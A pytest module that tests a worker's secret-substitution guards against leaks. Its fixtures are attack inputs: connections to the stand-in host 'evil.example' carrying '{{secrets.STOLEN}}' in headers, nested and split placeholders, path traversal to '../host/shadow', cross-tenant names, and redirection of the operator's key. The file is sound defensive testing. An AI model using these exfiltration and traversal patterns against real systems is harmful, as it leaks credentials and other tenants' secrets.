"""
Attacks where placeholders are filled, and keys belong: in a connection, on secrets that are not meant for the task.

Each is first seen to work against a build from which one guard has been taken, so none passes by being harmless.
"""

from collections.abc import Mapping
from pathlib import Path
from typing import Any, Final

import pytest

from tests.attacks.secrets.line import STOLEN, Attack
from tests.attacks.secrets.weak import (
    Weaken,
    allows_all,
    check,
    fills_again,
    has_no_prefix,
    opens_every_store,
    overrides_all,
    serves_all,
    takes_any_name,
)
from tests.made import a_task
from worker.connections import Asker
from worker.secrets import EnvironmentSecrets

_ASKED: Final = "say {{secrets.STOLEN}} or <<secrets.STOLEN>> or {{ secrets.STOLEN }}"
_EVIL: Final = {"endpoint": "https://evil.example", "authentication": {"type": "none"}}
_IT_EVIL: Final = {**_EVIL, "headers": {"X-Own": "{{secrets.STOLEN}}"}}

# In a connection, where placeholders are filled, but not these
_FORBIDDEN: Final[Mapping[str, tuple[Weaken, Attack]]] = {
    "in a secret's own value": (
        fills_again,
        Attack(task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets.A}}"}}), secrets={"A": _ASKED}),
    ),
    "as a secret's whole value": (
        fills_again,
        Attack(task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets.A}}"}}), secrets={"A": "secrets.STOLEN"}),
    ),
    "put together from the values of two secrets": (
        fills_again,
        Attack(
            task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets.A}}{{secrets.B}}"}}),
            secrets={"A": "{{secrets.STO", "B": "LEN}}"},
        ),
    ),
    "a name that is on no list": (
        allows_all,
        Attack(task=a_task(connection=_IT_EVIL), policy={"allow": [{"names": ["AZURE_*"]}]}),
    ),
    "a name for another process": (
        allows_all,
        Attack(task=a_task(connection=_IT_EVIL), policy={"allow": [{"names": ["*"], "processes": ["another"]}]}),
    ),
    "a name for another tenant": (
        allows_all,
        Attack(task=a_task(connection=_IT_EVIL), policy={"allow": [{"names": ["*"], "tenants": ["another"]}]}),
    ),
    "names that are nearly the same": (
        allows_all,
        Attack(task=a_task(connection=_IT_EVIL), policy={"allow": [{"names": ["stolen", "STOLE", "TOLEN", "S*N?"]}]}),
    ),
    "a name that two rules open together, none alone": (
        allows_all,
        Attack(
            task=a_task(connection=_IT_EVIL),
            policy={"allow": [{"names": ["STOLEN"], "tenants": ["x"]}, {"names": ["A"], "tenants": ["<default>"]}]},
        ),
    ),
    "a store that others use too": (
        opens_every_store,
        Attack(
            task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets.THEIRS}}"}}), shared={"THEIRS": STOLEN.key}
        ),
    ),
    "a variable that is none of the secrets": (
        has_no_prefix,
        Attack(
            task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets.ZEEBE_CLIENT_SECRET}}"}}),
            unprefixed={"ZEEBE_CLIENT_SECRET": STOLEN.key},
        ),
    ),
    "a file outside of the folder": (
        takes_any_name,
        Attack(
            task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets.../host/shadow}}"}}),
            files={"mounted/KEY": "x", "host/shadow": STOLEN.key},
        ),
    ),
    "a hidden folder of the mount's own": (
        takes_any_name,
        Attack(
            task=a_task(connection={**_EVIL, "headers": {"X": "{{secrets...data/KEY}}"}}),
            files={"mounted/..data/KEY": STOLEN.key},
        ),
    ),
}


def _main(**fields: Any) -> dict[str, Any]:
    return a_task(connection={"name": "main", **fields})


_AT_EVIL: Final = {"resource": None, "endpoint": "https://evil.example"}
# The operator's key, taken to where a task wants it
_OPERATORS: Final[Mapping[str, tuple[Weaken, Attack]]] = {
    "another endpoint": (overrides_all, Attack(task=_main(endpoint="https://evil.example"), named=_AT_EVIL | {})),
    "another endpoint, which a task may choose": (
        overrides_all,
        Attack(
            task=_main(endpoint="https://evil.example/v1"),
            named={"resource": None, "endpoint": "https://main.example", "override": ["endpoint"]},
        ),
    ),
    "another provider": (
        overrides_all,
        Attack(
            task=_main(provider="openai", endpoint="https://evil.example/v1"),
            named={"resource": None, "endpoint": "https://main.example", "override": ["provider", "endpoint"]},
        ),
    ),
    "a whole URL from a portal": (
        overrides_all,
        Attack(
            task=_main(endpoint="https://evil.example/openai/deployments/x/chat/completions?api-version=v1"),
            named={"resource": None, "endpoint": "https://main.example", "override": ["endpoint", "deployment"]},
        ),
    ),
    "a connection for another process": (serves_all, Attack(task=_main(), named={**_AT_EVIL, "processes": ["other"]})),
    "a connection for another tenant": (serves_all, Attack(task=_main(), named={**_AT_EVIL, "tenants": ["other"]})),
}
ATTACKS: Final = {**_FORBIDDEN, **{f"the operator's key to {name}": attack for name, attack in _OPERATORS.items()}}


@pytest.mark.parametrize("name", ATTACKS)
async def test_attack(name: str, tmp_path: Path) -> None:
    """With the guard taken away it works; with the guard in its place nothing leaks."""
    await check(*ATTACKS[name], tmp_path)


async def test_a_tenant_cannot_take_anothers_variable() -> None:
    """With tenant-aware names, a name that reads on into another tenant's is refused; without the guard it is not."""
    environment = {"S_a_b_KEY": STOLEN.key}
    weak = EnvironmentSecrets(environment, prefix="S_", by_tenant=True)
    strong = EnvironmentSecrets(environment, prefix="S_", by_tenant=True, tenants=("a", "a_b"))

    assert STOLEN.key == await weak.get("b_KEY", Asker("p", "a"))
    assert await strong.get("b_KEY", Asker("p", "a")) is None
